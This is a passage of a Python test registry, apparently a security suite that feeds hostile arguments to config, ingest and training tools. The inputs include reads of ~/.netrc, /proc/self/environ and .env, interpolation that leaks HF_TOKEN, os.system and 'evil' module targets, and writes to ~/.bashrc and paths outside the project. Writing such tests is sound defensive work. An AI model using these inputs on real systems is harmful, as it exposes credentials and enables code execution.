    reg(f"options_{_n}", "list_options",
        (lambda g: lambda w: [("list_options", {"group": g.format(outside=w.outside)})])(_g))

# ====================================================== 5. launch in read-only mode
reg("launch_plain", "launch_readonly", lambda w: [("launch", {"overrides": []})])
reg("launch_sweep", "launch_readonly", lambda w: [("launch", {"overrides": ["+b8=1,2"], "sweep": True})])
reg("launch_target", "launch_readonly", lambda w: [("launch", {"overrides": ["+b8._target_=b8evil_proj.evil"]})])
reg("launch_interp", "launch_readonly", lambda w: [("launch", {"overrides": ["+b8=${oc.env:HF_TOKEN}"]})])

# ====================================================== 6. ingest
INGEST = {
    "outside_input": lambda w: {"inputs": [str(w.outside / "transcripts.jsonl")], "output": "ing1.jsonl"},
    "outside_secret_input": lambda w: {"inputs": [str(w.outside / "secret.txt")], "output": "ing2.jsonl"},
    "netrc_input": lambda w: {"inputs": ["~/.netrc"], "output": "ing3.jsonl"},
    "proc_environ_input": lambda w: {"inputs": ["/proc/self/environ"], "output": "ing4.jsonl"},
    "dev_zero_input": lambda w: {"inputs": ["/dev/zero"], "output": "ing5.jsonl"},
    "dev_stdin_input": lambda w: {"inputs": ["/dev/stdin"], "output": "ing6.jsonl"},
    "glob_input": lambda w: {"inputs": [str(w.base) + "/**/*"], "output": "ing7.jsonl"},
    "url_input": lambda w: {"inputs": [w.url + "/t.jsonl"], "output": "ing8.jsonl"},
    "file_url_input": lambda w: {"inputs": ["file://" + str(w.outside / "transcripts.jsonl")], "output": "ing9.jsonl"},
    "project_env_input": lambda w: {"inputs": [str(w.project / ".env")], "output": "ing10.jsonl"},
    "project_rel_input": lambda w: {"inputs": [".env", "secrets.yaml", "credentials.json"], "output": "ing11.jsonl"},
    "output_outside_abs": lambda w: {"inputs": [], "output": str(w.outside / "written.jsonl")},
    "output_dotdot": lambda w: {"inputs": [], "output": "../outside/written.jsonl"},
    "output_home": lambda w: {"inputs": [], "output": "~/.bashrc"},
    "output_overwrite_secret": lambda w: {"inputs": [], "output": str(w.outside / "secret.txt")},
    "output_project_conf": lambda w: {"inputs": [], "output": str(w.project / "conf" / "train.yaml")},
    "output_proc": lambda w: {"inputs": [], "output": "/proc/self/fd/1"},
    "output_dev_null": lambda w: {"inputs": [], "output": "/dev/null"},
    "output_fifo": lambda w: {"inputs": [], "output": "fifo1/run/metrics.jsonl"},
    "output_symlink_out": lambda w: {"inputs": [], "output": "lnk/run/new.jsonl"},
    "output_nul": lambda w: {"inputs": [], "output": "a\x00/../../outside/w.jsonl"},
    "output_fullwidth_dots": lambda w: {"inputs": [], "output": "\uff0e\uff0e/outside/w.jsonl"},
    "output_trailing_slash": lambda w: {"inputs": [], "output": str(w.outside) + "/"},
    "output_long": lambda w: {"inputs": [], "output": "x" * 5000 + ".jsonl"},
    "format_module": lambda w: {"inputs": ["rec/store_secret/store.jsonl"], "output": "ing12.jsonl",
                                "format": "b8evil_proj"},
    "format_path": lambda w: {"inputs": ["rec/store_secret/store.jsonl"], "output": "ing13.jsonl",
                              "format": str(w.outside / "b8evil_out.py")},
    "format_target": lambda w: {"inputs": ["rec/store_secret/store.jsonl"], "output": "ing14.jsonl",
                                "format": "os:system"},
    "format_interp": lambda w: {"inputs": ["rec/store_secret/store.jsonl"], "output": "ing15.jsonl",
                                "format": "${oc.env:HF_TOKEN}"},
    "strict_secret_errors": lambda w: {"inputs": [str(w.outside / "secret.txt"), "rec/log_secret_lines/train.log"],
                                       "output": "ing16.jsonl", "strict": True},
    "inputs_in_outputs_secret": lambda w: {"inputs": ["rec/log_secret_lines/train.log", ".env"],
                                           "output": "ing17.jsonl",
                                           "strict": True},
    "many_inputs": lambda w: {"inputs": ["/dev/zero"] * 200, "output": "ing18.jsonl"},
    "symlink_input": lambda w: {"inputs": ["lnk/run/manifest.json", "lnk4/run/metrics.jsonl"], "output": "ing19.jsonl"},
    "fifo_input": lambda w: {"inputs": ["fifo2/run/manifest.json"], "output": "ing20.jsonl"},
    "huge_input": lambda w: {"inputs": ["hos/huge_line/metrics.jsonl"], "output": "ing21.jsonl"},
}
for _n, _a in INGEST.items():
    reg(f"ingest_{_n}", "ingest", (lambda a: lambda w: [("ingest", a(w))])(_a))

# ====================================================== 7. improve
IMPROVE = {
    "transcripts_outside": lambda w: {"transcripts": str(w.outside / "transcripts.jsonl"), "output": "imp1"},
    "transcripts_netrc": lambda w: {"transcripts": "~/.netrc", "output": "imp2"},
    "transcripts_proc": lambda w: {"transcripts": "/proc/self/environ", "output": "imp3"},
    "transcripts_url": lambda w: {"transcripts": w.url + "/t.jsonl", "output": "imp4"},
    "transcripts_dev_stdin": lambda w: {"transcripts": "/dev/stdin", "output": "imp5"},
    "output_outside": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": str(w.outside / "imp")},
    "output_dotdot": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "../outside/imp"},
    "output_home": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "~/imp"},
    "reward_module": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp6",
                                "reward": "b8evil_proj:evil"},
    "reward_dotted": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp7",
                                "reward": "b8evil_out.evil"},
    "reward_path": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp8",
                              "reward": str(w.outside / "b8evil_out.py")},
    "reward_os": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp9", "reward": "os.system"},
    "reward_dotdot": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp10",
                                "reward": "../../outside/evil"},
    "task_outside": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp11",
                               "task": str(w.outside / "conf/evil")},
    "task_dotdot": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp12",
                              "task": "../../outside/model/evil"},
    "task_interp": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp13",
                              "task": "${oc.env:HF_TOKEN}"},
    "threshold_odd": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp14",
                                "threshold": "${oc.env:HF_TOKEN}"},
    "threshold_nan": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp15",
                                "threshold": float("nan")},
    "eval_prompts_outside": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp16",
                                       "eval_prompts": str(w.outside / "transcripts.jsonl")},
    "eval_prompts_netrc": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp17",
                                     "eval_prompts": "~/.netrc"},
    "overrides_interp": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp18",
                                   "overrides": ["+b8=${oc.env:HF_TOKEN}"]},
    "overrides_target": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp19",
                                   "overrides": ["+reward._target_=b8evil_proj.evil",
                                                 "+hydra.callbacks.x._target_=b8evil_out.Evil"]},
    "overrides_endpoint": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp20",
                                     "overrides": [f"+provider.base_url={w.url}", f"+judge.base_url={w.url}"]},
    "overrides_string": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp21",
                                   "overrides": "hydra.run.dir=" + str(w.outside)},
    "overrides_searchpath": lambda w: {"transcripts": "rec/store_secret/store.jsonl", "output": "imp22",
                                       "overrides": [f"hydra.searchpath=[file://{w.outside}]"]},
}
for _n, _a in IMPROVE.items():
    reg(f"improve_{_n}", "improve", (lambda a: lambda w: [("improve", a(w))])(_a))

# ====================================================== 8. session robustness
reg("session_many_fast_calls", "session", lambda w: [("list_options", {})] * 40 + [("list_runs", {"limit": 1000})] * 10)
reg("session_huge_arg", "session", lambda w: [("run_status", {"run_dir": "x" * 5_000_000})])
reg("session_huge_overrides_list", "session", lambda w: [("compose_config", {"overrides": ["+a=1"] * 100000})])
reg("session_overrides_not_list", "session", lambda w: [("compose_config", {"overrides": "+b8=${oc.env:HF_TOKEN}"}),
                                                        ("compose_config", {"overrides": {"a": "${oc.env:HF_TOKEN}"}})])
reg("session_overrides_nonstr", "session", lambda w: [("compose_config", {"overrides": [1, None, {"a": 1}, ["x"]]})])
reg("session_no_args", "session", lambda w: [(t, {}) for t, _ in RUN_TOOLS] + [("compose_config", {}), ("ingest", {}),
                                                                              ("improve", {})])
